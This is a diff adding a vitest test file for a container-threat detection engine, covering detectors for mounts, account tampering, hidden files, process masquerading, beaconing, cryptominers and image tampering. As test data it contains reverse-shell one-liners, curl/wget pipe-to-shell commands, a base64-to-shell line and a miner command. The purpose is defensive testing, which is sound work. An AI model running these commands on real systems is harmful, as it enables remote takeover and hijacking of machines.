@@ -1,0 +1,204 @@
+import { describe, expect, it } from 'vitest';
+import { runDetectors } from '../../../electron/engine/detect/run-detectors.js';
+import { BASE64_TO_SHELL, DOWNLOAD_AND_RUN, REVERSE_SHELL_PATTERNS } from '../../../electron/engine/detect/lib/commands.js';
+import type { Finding } from '../../../shared/domain/finding.js';
+import type { EngineEvidence } from '../../../shared/domain/evidence-set.js';
+import { container, engine, hostProcs, sha } from './fixtures.js';
+
+const run = (ev: EngineEvidence, detector: string, policy = {}): Finding[] => runDetectors(ev, { only: [detector], policy }).findings;
+const snap = (containerId: string, at: string, sockets: Array<Record<string, unknown>>) => ({
+  containerId,
+  source: 'host:/proc/1/net',
+  collectedAt: at,
+  sockets: sockets.map((s, i) => ({ protocol: 'tcp', localAddress: '172.17.0.2', localPort: 40000 + i, remoteAddress: '0.0.0.0', remotePort: 0, state: 'ESTABLISHED', inode: 100 + i, ...s })),
+});
+
+describe('command patterns', () => {
+  it('recognise download-and-run, base64 and reverse shells, and not their everyday look-alikes', () => {
+    for (const bad of ['curl -fsSL http://x/i.sh | sh', 'wget -q -O- http://x | bash', 'wget http://x/a -O /tmp/a; chmod +x /tmp/a', 'curl http://x/p.py | python3']) expect(DOWNLOAD_AND_RUN.test(bad), bad).toBe(true);
+    for (const ok of ['curl -fsSL http://x/health', 'wget -O /tmp/archive.tgz http://x/a.tgz', 'apt-get install -y curl && rm -rf /var/lib/apt/lists/*']) expect(DOWNLOAD_AND_RUN.test(ok), ok).toBe(false);
+    expect(BASE64_TO_SHELL.test('echo aGk= | base64 -d | sh')).toBe(true);
+    expect(BASE64_TO_SHELL.test('base64 -d cert.b64 > cert.pem')).toBe(false);
+    const rs = (s: string) => REVERSE_SHELL_PATTERNS.some(([re]) => re.test(s));
+    for (const bad of ['nc 10.0.0.1 4444 -e /bin/sh', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'socat tcp:1.2.3.4:80 exec:/bin/sh', 'ncat --exec /bin/sh 1.2.3.4 9', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 80 > /tmp/f']) expect(rs(bad), bad).toBe(true);
+    for (const ok of ['nc -z db 5432', 'nc -l -p 8080', 'socat TCP-LISTEN:80,fork TCP:app:8080', 'python3 -m http.server']) expect(rs(ok), ok).toBe(false);
+  });
+});
+
+describe('configuration detectors', () => {
+  it('grade mounts: engine socket critical even read-only, read-only log dir medium, data dir silent', () => {
+    const c = container({ mounts: [
+      { type: 'bind', source: '/var/run/docker.sock', destination: '/var/run/docker.sock', readOnly: true },
+      { type: 'bind', source: '/var/log', destination: '/host/log', readOnly: true },
+      { type: 'bind', source: '/srv/app-data', destination: '/data', readOnly: false },
+      { type: 'volume', source: '/var/lib/docker/volumes/x/_data', destination: '/v', readOnly: false },
+    ] });
+    expect(run(engine([c]), 'sensitive-host-mount').map((f) => f.severity)).toEqual(['critical', 'medium']);
+  });
+
+  it('judge logging against siblings', () => {
+    expect(run(engine([container({ logDriver: 'none' }), container()]), 'logging-disabled')[0]?.severity).toBe('medium');
+    expect(run(engine([container({ logDriver: 'none' })]), 'logging-disabled')[0]?.severity).toBe('low');
+  });
+
+  it('report a shell override only with a payload or with host-level access', () => {
+    const risky = container({ cmd: ['sh', '-c', 'echo hi; sleep 1d'], privileged: true });
+    const plain = container({ cmd: ['sh', '-c', 'echo hi; exec httpd -f'] });
+    const b64 = container({ cmd: ['sh', '-c', 'echo ZWNobyBoaQ== | base64 -d | sh'] });
+    const f = run(engine([risky, plain, b64]), 'command-override');
+    expect(f.map((x) => [x.container?.id, x.severity])).toEqual([[b64.container.id, 'high'], [risky.container.id, 'medium']]);
+  });
+});
+
+describe('file detectors', () => {
+  const file = (path: string, text: string, drift = true) => ({ path, sha256: sha(text), size: text.length, text, imageSha256: drift ? sha(`image:${path}`) : sha(text) });
+
+  it('account-tampering: second uid 0 critical, empty root password critical, image accounts silent', () => {
+    const bad = container({}, { fileContents: [file('/etc/passwd', 'root:x:0:0::/root:/bin/sh\nadmin:x:0:0::/:/bin/sh\n'), file('/etc/shadow', 'root::1:0:::::\n')] });
+    const ok = container({}, { fileContents: [file('/etc/passwd', 'root:x:0:0::/root:/bin/sh\n', false), file('/etc/shadow', 'root:*:1:0:::::\n', false)] });
+    const f = run(engine([bad, ok]), 'account-tampering');
+    expect(f.filter((x) => x.container?.id === ok.container.id)).toEqual([]);
+    expect(f.filter((x) => x.severity === 'critical').map((x) => x.evidence[0]!.sha256)).toHaveLength(2);
+  });
+
+  it('sudoers: runtime NOPASSWD high, the same rule shipped in the image medium', () => {
+    const rule = 'dev ALL=(ALL) NOPASSWD: ALL\n';
+    const f = run(engine([container({}, { fileContents: [file('/etc/sudoers.d/dev', rule)] }), container({}, { fileContents: [file('/etc/sudoers.d/dev', rule, false)] })]), 'sudoers-nopasswd');
+    expect(f.map((x) => x.severity)).toEqual(['high', 'medium']);
+  });
+
+  it('ld-preload: allocator preload medium, preload from a scratch dir critical', () => {
+    const c = container({}, { processes: hostProcs('x', [{ comm: 'app', env: { LD_PRELOAD: '/usr/lib/libjemalloc.so.2' } }, { comm: 'app2', env: { LD_PRELOAD: '/dev/shm/.l/h.so' } }]) });
+    expect(run(engine([c]), 'ld-preload').map((f) => f.severity)).toEqual(['critical', 'medium']);
+  });
+
+  it('immutable-files: flags from the diff and removal of chattr', () => {
+    const c = container({}, { files: [{ path: '/etc/ld.so.preload', kind: 'added', flags: ['immutable'] }, { path: '/usr/bin/chattr', kind: 'deleted', flags: [] }, { path: '/app/x', kind: 'added', flags: [] }] });
+    expect(run(engine([c]), 'immutable-files').map((f) => [f.severity, f.evidence[0]!.ref])).toEqual([['high', '/etc/ld.so.preload'], ['medium', '/usr/bin/chattr']]);
+  });
+
+  it('hidden-files: executable in a dot-dir high, tool caches ignored, dots-only names high', () => {
+    const c = container({}, { files: [
+      { path: '/tmp/.npm/_cacache/x', kind: 'added', flags: [] },
+      { path: '/tmp/.X11-unix/X0', kind: 'added', flags: [] },
+      { path: '/dev/shm/.s/miner', kind: 'added', flags: ['elf', 'executable'] },
+      { path: '/usr/share/.../k', kind: 'added', flags: [] },
+      { path: '/home/app/.config/x', kind: 'added', flags: [] },
+    ] });
+    expect(run(engine([c]), 'hidden-files').map((f) => [f.severity, f.evidence[0]!.ref])).toEqual([['high', '/dev/shm/.s/miner'], ['high', '/usr/share/.../k']]);
+  });
+});
+
+describe('process detectors', () => {
+  it('suspicious-exe-location: memfd critical; masquerading: daemon name on a foreign binary, not interpreters', () => {
+    const c = container({}, { processes: hostProcs('x', [
+      { comm: 'x', exe: '/memfd: (deleted)', cmdline: 'x' },
+      { comm: 'sshd', exe: '/tmp/.x/xmrig', cmdline: 'sshd: root' },
+      { comm: 'nginx', exe: '/usr/sbin/nginx', cmdline: 'nginx: worker process' },
+      { comm: 'gunicorn', exe: '/usr/bin/python3.12', cmdline: '/usr/bin/python3 gunicorn' },
+      { comm: 'sh', exe: '/bin/busybox', cmdline: '[kthreadd]' },
+    ]) });
+    const ev = engine([c]);
+    expect(run(ev, 'suspicious-exe-location').map((f) => [f.severity, f.attack])).toEqual([['critical', ['T1620']], ['high', ['T1036.005']]]);
+    expect(run(ev, 'process-masquerading').map((f) => f.severity)).toEqual(['critical', 'high']);
+  });
+
+  it('hidden-processes: host-only PIDs, ignoring processes that started after the in-container read', () => {
+    const host = hostProcs('x', [{ pid: 10, nsPid: 1 }, { pid: 11, nsPid: 7, comm: 'implant' }, { pid: 12, nsPid: 9, startTime: '2026-11-23T10:06:00.000Z' }]);
+    const inside = { containerId: 'x', view: 'container' as const, source: 'host:/proc/10/root/proc', collectedAt: '2026-11-23T10:05:00.000Z', processes: [{ pid: 1, ppid: 0, user: 'root', comm: 'sh', cmdline: 'sh' }] };
+    const f = run(engine([container({}, { processes: { ...host, container: inside } })]), 'hidden-processes');
+    expect(f.map((x) => x.summary)).toEqual([expect.stringContaining('implant')]);
+  });
+});
+
+describe('network detectors', () => {
+  it('outbound: public non-standard critical path high, private medium, standard and loopback silent', () => {
+    const c = container({}, { sockets: [snap('x', '2026-11-23T10:05:00Z', [
+      { remoteAddress: '203.0.113.9', remotePort: 4444 },
+      { remoteAddress: '10.1.2.3', remotePort: 5432 },
+      { remoteAddress: '203.0.113.9', remotePort: 443 },
+      { remoteAddress: '127.0.0.1', remotePort: 9999 },
+    ])] });
+    expect(run(engine([c]), 'outbound-nonstandard-port').map((f) => [f.severity, f.summary.includes('external')])).toEqual([['high', true], ['medium', false]]);
+    expect(run(engine([c]), 'outbound-nonstandard-port', { standardPorts: [4444, 5432] })).toEqual([]);
+  });
+
+  it('inter-container: flagged only when no network is shared, following container: network mode', () => {
+    const net = (id: string, ip: string) => ({ name: id, networkId: id, ipAddress: ip });
+    const target = container({ networks: [net('backend', '172.20.0.2')] });
+    const sameNet = container({ networks: [net('backend', '172.20.0.3')] }, { sockets: [snap('x', '2026-11-23T10:05:00Z', [{ remoteAddress: '172.20.0.2', remotePort: 5432 }])] });
+    const other = container({ networks: [net('frontend', '172.21.0.2')] }, { sockets: [snap('x', '2026-11-23T10:05:00Z', [{ remoteAddress: '172.20.0.2', remotePort: 5432 }])] });
+    const sidecar = container({ networkMode: `container:${sameNet.container.id}` }, { sockets: [snap('x', '2026-11-23T10:05:00Z', [{ remoteAddress: '172.20.0.2', remotePort: 5432 }])] });
+    const f = run(engine([target, sameNet, other, sidecar]), 'inter-container-connection');
+    expect(f.map((x) => x.container?.id)).toEqual([other.container.id]);
+  });
+
+  it('beaconing: steady new connections are flagged, jittered ones and one long session are not', () => {
+    const series = (gaps: number[], newPortEachTime: boolean) => {
+      let t = Date.parse('2026-11-23T10:00:00Z');
+      return gaps.map((g, i) => {
+        t += g * 1000;
+        return snap('x', new Date(t).toISOString(), [{ remoteAddress: '198.51.100.7', remotePort: 443, localPort: newPortEachTime ? 50000 + i : 50000 }]);
+      });
+    };
+    const steady = container({}, { sockets: series([30, 30, 31, 29, 30, 30], true) });
+    const jitter = container({}, { sockets: series([5, 60, 12, 90, 3, 40], true) });
+    const session = container({}, { sockets: series([30, 30, 30, 30, 30, 30], false) });
+    const f = run(engine([steady, jitter, session]), 'beaconing');
+    expect(f.map((x) => [x.container?.id, x.severity])).toEqual([[steady.container.id, 'medium']]);
+    expect(f[0]!.summary).toMatch(/about every 30 s/);
+  });
+});
+
+describe('lifecycle and image detectors', () => {
+  const stats = (cpus: number[]) => cpus.map((cpuPercent, i) => ({ at: `2026-11-23T10:00:0${i}Z`, cpuPercent, memoryBytes: 1, pids: 1, netRxBytes: 0, netTxBytes: 0 }));
+  it('resource-hijack: spike vs own baseline low, always-busy silent, miner with spike critical', () => {
+    const spike = container({}, { stats: stats([3, 4, 95, 97, 96, 98]) });
+    const busy = container({}, { stats: stats([95, 96, 97, 95, 96, 98]) });
+    const miner = container({}, { stats: stats([3, 2, 99, 99, 98, 99]), processes: hostProcs('x', [{ comm: 'kswapd0', cmdline: './kswapd0 -o pool.example:3333 --coin monero stratum+tcp://pool.example:3333' }]) });
+    const f = run(engine([spike, busy, miner]), 'resource-hijack');
+    expect(f.map((x) => [x.container?.id, x.severity])).toEqual([[miner.container.id, 'critical'], [spike.container.id, 'low']]);
+  });
+
+  it('short-lived: create to destroy within the policy window only', () => {
+    const ev = (id: string, action: string, t: number) => ({ engineId: 'local', time: new Date(t).toISOString(), timeNano: t * 1e6, type: 'container', action, actorId: id, attributes: { name: `n-${id.slice(0, 4)}`, image: 'alpine' } });
+    const t0 = Date.parse('2026-11-23T10:00:00Z');
+    const quick = sha('quick');
+    const slow = sha('slow');
+    const events = [ev(quick, 'create', t0), ev(quick, 'start', t0 + 200), ev(quick, 'die', t0 + 900), ev(quick, 'destroy', t0 + 1000), ev(slow, 'create', t0), ev(slow, 'destroy', t0 + 120_000)];
+    const f = run(engine([], { events }), 'short-lived-container');
+    expect(f.map((x) => x.container?.id)).toEqual([quick]);
+    expect(run(engine([], { events }), 'short-lived-container', { shortLivedSeconds: 300 })).toHaveLength(2);
+  });
+
+  it('exec-into-container: graded by command, terminal and privilege', () => {
+    const c = container();
+    const x = (execId: string, command: string, o: Record<string, unknown> = {}) => ({ execId, containerId: c.container.id, time: '2026-11-23T10:01:00Z', command, ...o });
+    const f = run(engine([c], { execs: [x('a', 'cat /etc/os-release'), x('b', 'bash', { tty: true }), x('c', 'sh -c curl http://x/a.sh | sh'), x('d', 'nsenter -t 1 -m sh', { privileged: true })] }), 'exec-into-container');
+    expect(Object.fromEntries(f.map((y) => [y.evidence[0]!.ref, y.severity]))).toEqual({ a: 'low', b: 'medium', c: 'high', d: 'critical' });
+  });
+
+  it('image-tampering: a tag moved under a running container, and build history that installs a miner', () => {
+    const c = container({ image: 'shop:latest', imageId: 'sha256:' + sha('old') });
+    const ev = engine([c], { images: [
+      { id: 'sha256:' + sha('old'), repoTags: [], repoDigests: ['shop@sha256:' + sha('d')], created: '', cmd: [], entrypoint: [], exposedPorts: [], env: [], history: [{ created: '', createdBy: '/bin/sh -c curl -L http://x/xmrig -o /usr/bin/xmrig' }] },
+      { id: 'sha256:' + sha('new'), repoTags: ['shop:latest'], repoDigests: [], created: '', cmd: [], entrypoint: [], exposedPorts: [], env: [], history: [] },
+    ] });
+    expect(run(ev, 'image-tampering').map((f) => f.severity).sort()).toEqual(['high', 'medium']);
+  });
+});
+
+describe('hostile input', () => {
+  it('keeps summaries bounded and free of terminal control sequences', () => {
+    const evil = `\u001b]0;pwned\u0007\u001b[2J${'A'.repeat(50_000)}`;
+    const c = container({ name: 'x', privileged: true }, { processes: hostProcs('x', [{ comm: evil, exe: `/tmp/${evil}`, cmdline: `nc 1.2.3.4 4444 -e /bin/sh ${evil}` }]) });
+    const { findings } = runDetectors(engine([c]));
+    expect(findings.length).toBeGreaterThan(2);
+    for (const f of findings) {
+      expect(f.summary.length).toBeLessThanOrEqual(1024);
+      for (const e of f.evidence) expect(e.excerpt.length).toBeLessThanOrEqual(1024);
+      // eslint-disable-next-line no-control-regex
+      expect(f.summary).not.toMatch(/[\u0000-\u001f]/);
+    }
+  });
+});
